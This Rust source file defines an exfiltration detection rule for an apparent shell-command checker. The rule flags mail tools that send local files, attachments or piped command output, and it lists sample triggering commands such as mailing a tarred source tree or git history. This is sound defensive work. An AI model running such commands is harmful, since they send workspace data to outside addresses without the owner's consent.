//! Mail sent with local content: a file or command output as the body
//! (`mail -s x a@b < report.txt`, `git log | mail …`) or attached (`-a f`).

use crate::rules::prelude::*;
use crate::rules::shared::transfer::{opt_values, prints_literal, stdin_of};

pub(crate) static RULE: Rule = Rule {
    code: "EXF009",
    name: "mail-with-local-data",
    category: Category::Exfiltration,
    decision: Decision::Ask,
    commands: &["mail", "mailx", "s-nail", "bsd-mailx", "mutt", "neomutt", "sendmail", "msmtp", "ssmtp", "swaks", "sendemail"],
    summary: "mails a local file or command output",
    why: "The content leaves the machine to an address outside the workspace.",
    check,
    fires: &[
        "mail -s report boss@example.com < report.txt",
        "git log -p | mail -s changes a@example.com",
        "mutt -s logs -a build.log -- a@example.com < /dev/null",
        "sudo sendmail a@example.com < message.eml",
        "swaks --to a@example.com --attach data.csv",
        "bash -c 'tar cz src | mail -s src a@example.com'",
    ],
    passes: &["echo 'build done' | mail -s done a@example.com", "mail -H", "mutt -v"],
};

fn check(cmd: &Command, cx: &Context<'_>) -> Option<Hit> {
    if let Some(f) = opt_values(cmd, &["-a", "-A", "--attach", "--attach-file", "-attach"]).into_iter().next() {
        return Some(Hit::on(&f).with_message(format!("`{}` attaches `{}` to a mail", cmd.name, f.text)));
    }
    match stdin_of(cx.script, cmd) {
        Some(Input::File { path }) if path.path != PathClass::Special => {
            Some(Hit::on(path).with_message(format!("`{}` mails the file `{}`", cmd.name, path.text)))
        }
        Some(Input::Pipe { from }) => {
            let src = cx.script.commands.get(*from)?;
            (!prints_literal(src)).then(|| Hit::command().with_message(format!("`{}` mails the output of `{}`", cmd.name, describe(src))))
        }
        _ => None,
    }
}
